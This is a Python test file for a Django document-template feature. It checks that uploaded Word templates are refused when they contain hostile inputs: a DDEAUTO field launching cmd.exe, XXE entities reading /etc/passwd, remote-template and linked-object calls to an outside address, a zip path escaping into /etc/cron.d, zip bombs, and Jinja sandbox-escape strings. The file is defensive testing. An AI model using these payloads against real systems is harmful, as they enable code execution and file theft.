"""A template is code: two persons put it in force, and one that calls out is refused."""

from __future__ import annotations

import io
from collections.abc import Callable
from typing import Any
from zipfile import ZIP_DEFLATED, ZipFile, ZipInfo

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from docx import Document

from cadres.files import read
from cadres.models import Cadre, Event
from rectification.actions import templates
from rectification.models import Item, PaperTemplate
from rectification.papers import rendering
from rectification.papers.drawing import standard
from rectification.papers.facts import sample
from rectification.papers.inspecting import FIELDS
from rectification.papers.kinds import KINDS
from rectification.papers.reading import template_in_force
from rectification.papers.rendering import render
from tests.cast import Cast, to_work
from tests.county import AT
from tests.rectification.papers import drafted, opened, words
from yuexi.core.refusals import BadInput, NotYours, Refusal

pytestmark = pytest.mark.django_db
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
RELS = "word/_rels/document.xml.rels"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def changed(kind: str = "URGE", **parts: Any) -> bytes:
    """The standard template with parts replaced: by bytes, by a function of the old, or added."""
    made = io.BytesIO()
    with ZipFile(io.BytesIO(standard(kind))) as old, ZipFile(made, "w", ZIP_DEFLATED) as new:
        given = {
            name.replace("__", "/").replace("_xml", ".xml"): part for name, part in parts.items()
        }
        given |= parts.get("also", {})
        given.pop("also", None)
        for entry in old.infolist():
            part = given.pop(entry.filename, None)
            before = old.read(entry)
            new.writestr(entry, part(before) if callable(part) else part or before)
        for name, part in given.items():
            new.writestr(name, part)
    return made.getvalue()


def before(end: bytes, more: str) -> Callable[[bytes], bytes]:
    return lambda old: old.replace(end, more.encode() + end, 1)


def body(xml: str) -> bytes:
    """One more piece of XML at the end of the text."""
    return changed(word__document_xml=before(b"<w:sectPr", xml))


def text(said: str) -> bytes:
    return body(f"<w:p><w:r><w:t>{said}</w:t></w:r></w:p>")


def related(kind: str, target: str, mode: str = "External") -> bytes:
    rel = f'<Relationship Id="rIdX" Type="{REL}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    return changed(also={RELS: before(b"</Relationships>", rel)})


def split_field(*pieces: str) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return body(f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')  # fmt: skip


def hand_in(content: bytes | None, by: Cadre, kind: str = "URGE") -> PaperTemplate:
    return templates.hand_in(kind=kind, content=content, note="换抬头", by=by, at=AT)


# --- what calls out, reads files or starts something

CALLS_OUT = {
    "a remote template": lambda: changed(also={
        "word/_rels/settings.xml.rels": f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{REL}/attachedTemplate" Target="http://198.51.100.7/a.dotm" TargetMode="External"/></Relationships>'}),
    "a linked picture": lambda: related("image", "http://198.51.100.7/a.png"),
    "a picture on a share": lambda: related("image", "file://198.51.100.7/share/a.png"),
    "a link": lambda: related("hyperlink", "https://198.51.100.7/"),
    "an object that is linked": lambda: related("oleObject", "http://198.51.100.7/a.xls"),
    "a frame": lambda: related("frame", "http://198.51.100.7/", " External "),
    "an embedded object": lambda: changed(also={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
    "an object in the text": lambda: body("<w:p><w:r><w:object/></w:r></w:p>"),
    "another format": lambda: body(f'<w:altChunk xmlns:r="{REL}" r:id="rId1"/>'),
    "macros": lambda: changed(also={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
    "a document that may hold macros": lambda: changed(also={"[Content_Types].xml": lambda old: old.replace(
        b"vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", b"vnd.ms-word.document.macroEnabled.main+xml")}),
    "a mail merge": lambda: changed(word__settings_xml=before(b"</w:settings>", "<w:mailMerge/>")),
    "DDE": lambda: split_field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '),
    "DDE in pieces": lambda: split_field(" D", "DE", ' "c" "d" '),
    "DDE in small letters": lambda: split_field(" dde c d "),
    "a simple field": lambda: body('<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;http://198.51.100.7/a.docx&quot;"/></w:p>'),
    "a picture by field": lambda: split_field(' INCLUDEPICTURE "http://198.51.100.7/a.png" \\d '),
    "a linked field": lambda: split_field(" LINK Excel.Sheet.8 c:\\a.xls "),
    "a field made by a field": lambda: body(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> SEQ a </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>DDE c d</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'),
    "a field written as text": lambda: body(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:t> DDE c d </w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'),
    "a field without an end": lambda: body('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDETEXT "http://198.51.100.7/a" </w:instrText></w:r></w:p>'),
    "a code without its field": lambda: body("<w:p><w:r><w:instrText> PAGE </w:instrText></w:r></w:p>"),
    "a field in a header": lambda: changed(word__header1_xml=before(b"</w:hdr>", '<w:p><w:fldSimple w:instr="DATABASE x"/></w:p>')),
    "an address in a drawing": lambda: body('<w:p><w:r><w:pict xmlns:v="urn:schemas-microsoft-com:vml"><v:rect><v:fill src="http://198.51.100.7/a.png"/></v:rect></w:pict></w:r></w:p>'),
    "an address of a share": lambda: body('<w:p><w:r><w:pict xmlns:v="urn:schemas-microsoft-com:vml"><v:rect><v:fill src="\\\\198.51.100.7\\a.png"/></v:rect></w:pict></w:r></w:p>'),
    "an entity": lambda: changed(word__settings_xml=lambda old: old.replace(b"<w:settings", b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:settings', 1)),
    "an entity in UTF-16": lambda: changed(word__settings_xml=(
        f'<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:settings {W}>&e;</w:settings>').encode("utf-16")),
    "a part outside": lambda: changed(also={"../../etc/cron.d/a": b"x"}),
    "a second text": lambda: changed(also={"word/Document.xml": b"<x/>"}),
}  # fmt: skip


@pytest.mark.parametrize("what", CALLS_OUT)
def test_a_template_that_calls_out_is_refused(what: str, cast: Cast) -> None:
    with pytest.raises(BadInput) as refusal:
        hand_in(CALLS_OUT[what](), cast.accepter)
    assert refusal.value.field == "file" and refusal.value.code.startswith("template_")
    assert not PaperTemplate.objects.exists()


def test_an_address_that_comes_with_the_facts_is_refused(cast: Cast) -> None:
    """Harmless as handed in: what a person types as 主送 makes an address of it."""
    template = body('<w:p><w:r><w:pict xmlns:v="urn:schemas-microsoft-com:vml"><v:rect><v:fill src="{{ 主送 }}"/></v:rect></w:pict></w:r></w:p>')  # fmt: skip
    assert render(template, sample("URGE"))
    with pytest.raises(BadInput, match="对外连接"):
        render(template, sample("URGE") | {"主送": "http://198.51.100.7/a.png"})


def test_page_numbers_stay_allowed(cast: Cast) -> None:
    assert "PAGE" in FIELDS
    hand_in(split_field(" NUMPAGES "), cast.accepter)
    shown = '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    hand_in(body(shown), cast.accepter)


# --- bombs


def bomb(size: int, *, lie: bool = False) -> bytes:
    made = changed(also={"word/media/a.png": b"\0" * size})
    if lie:  # its directory claims a few bytes
        real, small = size.to_bytes(4, "little"), (10).to_bytes(4, "little")
        made = made.replace(real, small)
    return made


@pytest.mark.parametrize("content", [lambda: bomb(30 * 1024 * 1024), lambda: bomb(4 * 1024 * 1024), lambda: bomb(30 * 1024 * 1024, lie=True)])  # fmt: skip
def test_a_bomb_is_refused(content: Callable[[], bytes], cast: Cast) -> None:
    with pytest.raises(BadInput, match=r"展开后太大|打不开"):
        hand_in(content(), cast.accepter)


def test_many_small_parts_are_refused(cast: Cast) -> None:
    with pytest.raises(BadInput, match="展开后太大"):
        hand_in(changed(also={f"word/media/{n}.png": b"x" for n in range(300)}), cast.accepter)


@pytest.mark.parametrize("said", [
    "{%p for a in 事项 %}" * 1, "{% for a in 事项 %}" * 30 + "{{ 编号 }}" * 30 + "{% endfor %}" * 30,
])  # fmt: skip
def test_what_never_ends_or_is_never_closed_is_refused(said: str, cast: Cast) -> None:
    with pytest.raises(BadInput):
        hand_in(text(said), cast.accepter)


# --- the language


@pytest.mark.parametrize(("said", "named"), [
    ("{{ 主宋 }}", "主宋"), ("{{ 事.编好 }}", "事.编好"), ("{% for x in 事项 %}{{ x.责任单 }}{% endfor %}", "x.责任单"),
    ("{% if not 送审 %}{{ 没有这个 }}{% endif %}", "没有这个"), ("{% if 送审 %}{% else %}{{ 也没有 }}{% endif %}", "也没有"),
    ("{% for x in 标题 %}{% endfor %}", "标题"), ("{% for 记 in 事.进展记录 %}{{ 记.天 }}{% endfor %}", "记.天"),
])  # fmt: skip
def test_an_unknown_placeholder_is_named(said: str, named: str, cast: Cast) -> None:
    with pytest.raises(BadInput, match=f"“{named}”"):
        hand_in(text(said), cast.accepter)


@pytest.mark.parametrize("said", [
    "{{ ''.__class__.__mro__ }}", "{{ 标题.__class__ }}", "{{ 标题.format(1) }}", "{{ range(9) }}", "{{ 9 * 9 }}",
    "{{ cycler }}", "{% set x = 1 %}", "{% include 'a' %}", "{% import 'a' as b %}", "{% macro a() %}{% endmacro %}",
    "{{ 标题|attr('x') }}", "{{ 标题|safe }}", "{{ 标题|map }}", "{{ 标题|default('x') }}", "{% raw %}x{% endraw %}{{ 1//0 }}",
    "{{ 标题['x'] }}", "{% for x in 事项 recursive %}{{ loop(x) }}{% endfor %}", "{% block a %}{% endblock %}", "{{ 标题", "{% fi 送审 %}",
    "{{ self }}", "{{ 标题 is defined }}", "{% filter trim %}{% endfilter %}", "{% call a() %}{% endcall %}",
])  # fmt: skip
def test_only_placeholders_conditions_and_loops_are_spoken(said: str, cast: Cast) -> None:
    with pytest.raises(BadInput) as refusal:
        hand_in(text(said), cast.accepter)
    assert "再传" in refusal.value.message


def test_the_process_of_a_template_has_no_environment_and_little_time() -> None:
    import subprocess
    import sys

    code = "from rectification.papers.filling import limit; limit()\nimport os, sys\n"
    for deed in (
        "while True: pass",
        "x = 'a' * (2 << 30)",
        "f = open('/dev/shm/x', 'w'); f.write('x'); f.flush()",
    ):
        done = subprocess.run([sys.executable, "-c", code + deed], capture_output=True, check=False,
                              env={}, cwd=rendering.settings.BASE_DIR)  # fmt: skip
        assert done.returncode != 0, deed


# --- two persons


def restyled() -> bytes:
    document = Document(io.BytesIO(standard("URGE")))
    document.add_paragraph("县里自己加的一句，{{ 编号 }}")
    made = io.BytesIO()
    document.save(made)
    return made.getvalue()


def test_two_persons_put_a_template_in_force(item: Item, cast: Cast) -> None:
    from tests.rectification.papers import late

    to_work(item, cast)
    item = late(item)
    template = hand_in(restyled(), cast.accepter)
    assert "县里自己加" not in words(opened(drafted("URGE", cast.accepter, item).file)), "waits"
    with pytest.raises(Refusal, match="另一人"):
        templates.decide(template=template, taken=True, by=cast.accepter, at=AT)
    with pytest.raises(NotYours):
        templates.decide(template=template, taken=True, by=cast.clerk, at=AT)
    templates.decide(template=template, taken=True, by=cast.approver, at=AT)
    with pytest.raises(Refusal, match="刷新页面"):
        templates.decide(template=template, taken=False, reason="不好", by=cast.approver, at=AT)
    paper = drafted("URGE", cast.accepter, item)
    assert f"县里自己加的一句，{paper.number}" in words(opened(paper.file))
    back = hand_in(None, cast.approver)
    templates.decide(template=back, taken=True, by=cast.accepter, at=AT)
    assert "县里自己加" not in words(opened(drafted("URGE", cast.accepter, item).file))
    assert "县里自己加" in words(opened(paper.file)) and back.version == 2


def test_one_that_was_refused_is_not_in_force(cast: Cast) -> None:
    template = hand_in(restyled(), cast.accepter)
    with pytest.raises(BadInput, match="原因"):
        templates.decide(template=template, taken=False, by=cast.approver, at=AT)
    templates.decide(template=template, taken=False, reason="字号不对", by=cast.approver, at=AT)
    assert template_in_force("URGE") is None


@pytest.mark.parametrize("kind", KINDS)
def test_what_is_downloaded_is_taken_back(kind: str, cast: Cast) -> None:
    hand_in(standard(kind), cast.accepter, kind)
    for draft in (True, False):
        assert render(standard(kind), sample(kind) | {"送审": draft})


def test_the_page_of_templates(cast: Cast, as_user: Callable[[Cadre], Client]) -> None:
    one, two = as_user(cast.accepter), as_user(cast.approver)
    sent = one.get("/papers/templates/URGE/")
    assert b"".join(sent) == standard("URGE")  # type: ignore[arg-type]
    assert one.get("/papers/templates/ODD/").status_code == 404
    assert one.get("/papers/templates/URGE/?version=x").status_code == 404
    assert one.get("/papers/templates/URGE/?version=7").status_code == 404
    bad = one.post("/papers/templates/", {"kind": "URGE", "note": "改个抬头", "file": SimpleUploadedFile("a.docx", text("{{ 主宋 }}"))})  # fmt: skip
    assert bad.status_code == 422 and "不认识占位符“主宋”" in bad.content.decode()
    none = one.post("/papers/templates/", {"kind": "URGE", "note": "改个抬头"})
    assert none.status_code == 422 and "请选择改好的模板" in none.content.decode()
    other = one.post("/papers/templates/", {"kind": "URGE", "note": "改个抬头", "file": SimpleUploadedFile("a.doc", b"\xd0\xcf\x11\xe0")})  # fmt: skip
    assert other.status_code == 422 and "只收 .docx" in other.content.decode()
    done = one.post("/papers/templates/", {"kind": "URGE", "note": "改个抬头", "file": SimpleUploadedFile("a.docx", restyled())})  # fmt: skip
    assert done.status_code == 302
    template = PaperTemplate.objects.get()
    assert "由另一人核对启用" in one.get("/papers/templates/").content.decode()
    assert one.post(f"/papers/templates/{template.pk}/decide/", {"taken": "1"}).status_code == 409
    assert two.post(f"/papers/templates/{template.pk}/decide/", {"taken": "1"}).status_code == 302
    assert template.file and b"".join(two.get("/papers/templates/URGE/")) == read(template.file)  # type: ignore[arg-type]
    assert list(Event.objects.filter(action__startswith="paper.").order_by("seq").values_list("action", flat=True)) == ["paper.template", "paper.confirm"]  # fmt: skip
    assert as_user(cast.clerk).get("/papers/templates/").status_code == 403


def test_an_entry_that_is_locked_is_refused(cast: Cast) -> None:
    made = io.BytesIO()
    with ZipFile(made, "w") as book:
        book.writestr(ZipInfo("word/document.xml"), b"x")
    locked = bytearray(made.getvalue())
    locked[6] |= 1  # the flag of encryption, in the entry and in the directory
    locked[locked.index(b"PK\x01\x02") + 8] |= 1
    with pytest.raises(BadInput, match="打不开"):
        hand_in(bytes(locked), cast.accepter)
